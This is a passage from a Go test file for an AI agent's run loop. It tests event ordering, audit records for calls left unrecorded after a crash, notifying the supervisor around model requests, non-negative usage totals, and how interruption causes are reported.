	// The order of the events: the call's end, then the answer's text.
	var order []EventKind
	var end *Outcome
	for _, ev := range evs.all {
		switch ev.Kind {
		case EventToolEnd:
			end = ev.Tool.Outcome
			order = append(order, ev.Kind)
		case EventText:
			order = append(order, ev.Kind)
		}
	}
	if len(order) < 2 || order[0] != EventToolEnd || order[1] != EventText {
		t.Fatalf("events %v, want the call's end before the answer's text", order)
	}
	if end.Changes == nil || end.Changes.Created != 1 || end.Audit == nil {
		t.Fatalf("the call's end lacks its change set or audit record: changes %+v, audit %+v", end.Changes, end.Audit)
	}
	n := 0
	if err := log.Records(func(auditlog.Record) error { n++; return nil }); err != nil || n != 1 {
		t.Fatalf("audit records when Run returned: %d (%v), want 1", n, err)
	}
}

// TestResumeRecordsCallsACrashLeftUnrecorded: a resumed history that ends
// with the saved results of the last answer's calls gets, at its first
// turn, an audit record for each call that ran and has none in this
// session (a crash came between its result and its record) — not for a
// call with its record, not for one answered "not run", not twice.
func TestResumeRecordsCallsACrashLeftUnrecorded(t *testing.T) {
	e := newExecEnv(t, policy.ModeAuto)
	_, log := withUndo(t, e)
	ctx := context.Background()
	write := func(session, id string) {
		t.Helper()
		if _, err := log.Append(ctx, auditlog.Record{Kind: auditlog.KindCall, Session: session, Call: &auditlog.Call{ID: id, Tool: "bash"}}); err != nil {
			t.Fatal(err)
		}
	}
	write(e.ex.Session, "c1") // recorded before the crash
	write("another-session", "c2")
	use := func(id string) provider.Block {
		return provider.Block{Type: provider.BlockToolUse, ToolUse: &provider.ToolUse{ID: id, Name: "bash", Input: json.RawMessage(`{"command":"echo ` + id + `"}`)}}
	}
	history := []provider.Message{
		{Role: provider.User, Content: userText("do three things")},
		{Role: provider.Assistant, Content: []provider.Block{use("c1"), use("c2"), use("c3")}},
		{Role: provider.User, Content: []provider.Block{
			provider.ToolResultBlock("c1", "c1", false),
			provider.ToolResultBlock("c2", "c2", false),
			provider.ToolResultBlock("c3", notRunPrefix+"interrupted by the user", true),
		}},
	}
	srv := startFake(t, fakeprovider.Turn{Text: "resumed"}, fakeprovider.Turn{Text: "again"})
	a := New(Config{Client: wires(srv)["anthropic"], Model: provider.Model{ID: "claude-sonnet-4-5"}, Executor: e.ex}, history)
	for range 2 {
		if _, err := a.Run(ctx, userText("go on")); err != nil {
			t.Fatal(err)
		}
	}
	count := map[string]int{}
	var c2 *auditlog.Call
	if err := log.Records(func(r auditlog.Record) error {
		if r.Session == e.ex.Session && r.Call != nil {
			count[r.Call.ID]++
			if r.Call.ID == "c2" {
				c2 = r.Call
			}
		}
		return nil
	}); err != nil {
		t.Fatal(err)
	}
	if count["c1"] != 1 || count["c2"] != 1 || count["c3"] != 0 {
		t.Fatalf("records of this session by call: %v, want c1 1, c2 1, c3 0", count)
	}
	if !strings.Contains(c2.Error, "before its record was written") || !strings.Contains(string(c2.Args), "echo c2") {
		t.Fatalf("the record written for c2: %+v", c2)
	}
}

// pacedRunner records, each time the agent says it is asking the model
// or that its answer is in, how many requests the model had received by
// then ("a" and "A" in order, with that number).
type pacedRunner struct {
	Runner
	srv   *fakeprovider.Server
	mu    sync.Mutex
	asked []int
	order []string
}

func (r *pacedRunner) ModelAsked() {
	r.mu.Lock()
	defer r.mu.Unlock()
	n := len(r.srv.Requests())
	r.asked = append(r.asked, n)
	r.order = append(r.order, "a"+strconv.Itoa(n))
}

func (r *pacedRunner) ModelAnswered() {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.order = append(r.order, "A"+strconv.Itoa(len(r.srv.Requests())))
}

// TestLoopTellsTheRunnerTheModelIsAsked: before each request leaves, and
// once its answer is in, the Runner that wants to know (the supervisor,
// which tells a call at a model's pace from one sent back to back) is
// told.
func TestLoopTellsTheRunnerTheModelIsAsked(t *testing.T) {
	e := newExecEnv(t, policy.ModeAuto)
	srv := startFake(t,
		fakeprovider.Turn{ToolCalls: []fakeprovider.ToolCall{call("bash", `{"command":"echo one"}`)}},
		fakeprovider.Turn{ToolCalls: []fakeprovider.ToolCall{call("bash", `{"command":"echo two"}`)}},
		fakeprovider.Turn{Text: "done"},
	)
	pr := &pacedRunner{Runner: e.ex.Runner, srv: srv}
	e.ex.Runner = pr
	a := New(Config{Client: wires(srv)["anthropic"], Model: provider.Model{ID: "claude-sonnet-4-5"}, Executor: e.ex}, nil)
	if _, err := a.Run(context.Background(), userText("echo twice")); err != nil {
		t.Fatal(err)
	}
	if n := len(srv.Requests()); n != 3 {
		t.Fatalf("%d requests, want 3", n)
	}
	if want := []int{0, 1, 2}; !slices.Equal(pr.asked, want) {
		t.Fatalf("the runner was told before the requests numbered %v, want %v (once before each)", pr.asked, want)
	}
	// Each answer is reported once it is in (the model has the request)
	// and before the next request: what the supervisor times as the
	// model's pace is the request and its answer only.
	if want := []string{"a0", "A1", "a1", "A2", "a2", "A3"}; !slices.Equal(pr.order, want) {
		t.Fatalf("the runner was told %v, want %v (asked before each request, answered after it)", pr.order, want)
	}
}

// TestLoopUsageIsNeverNegative: a provider reporting a negative count, or
// more cached tokens than its input (so the uncached input works out
// negative), cannot make the session's totals or cost negative.
func TestLoopUsageIsNeverNegative(t *testing.T) {
	turn := fakeprovider.Turn{Text: "ok", Usage: &fakeprovider.Usage{Input: 10, Output: -500, CacheRead: 4000}}
	srv := startFake(t, turn)
	for _, wire := range []string{"openaichat", "openai", "anthropic"} {
		a := New(Config{Client: wires(srv)[wire], Model: provider.Model{ID: "gpt-4.1", Price: provider.Price{Input: 2, Output: 8, CacheRead: 0.5}}}, nil)
		srv.SetScript(fakeprovider.Script{Turns: []fakeprovider.Turn{turn}})
		tr, err := a.Run(context.Background(), userText("hi"))
		if err != nil {
			t.Fatalf("%s: %v", wire, err)
		}
		u, cost := a.Totals()
		if u.Input < 0 || u.Output < 0 || u.CacheRead < 0 || u.CacheWrite < 0 || cost < 0 || tr.Usage.Total() < 0 {
			t.Errorf("%s: usage %+v, cost %v, turn %+v: a count went negative", wire, u, cost, tr.Usage)
		}
		if u.Total() == 0 {
			t.Errorf("%s: the sane part of the usage (%+v) was dropped", wire, u)
		}
	}
}

type stoppedBySignal struct{}

func (stoppedBySignal) Error() string     { return "stopped by SIGTERM" }
func (stoppedBySignal) StoppedBy() string { return "SIGTERM" }

// TestStoppedBy: the model is told the user interrupted only when nothing
// else is named as the context's cause (a SIGTERM from a timeout wrapper
// is no one's Ctrl-C).
func TestStoppedBy(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if got := StoppedBy(ctx); got != "the user" {
		t.Errorf("a plain cancel: %q", got)
	}
	ctx, cancelCause := context.WithCancelCause(context.Background())
	cancelCause(stoppedBySignal{})
	child, stop := context.WithCancel(ctx)
	defer stop()
	if got := StoppedBy(child); got != "SIGTERM" {
		t.Errorf("a SIGTERM, seen from a child context: %q", got)
	}
}
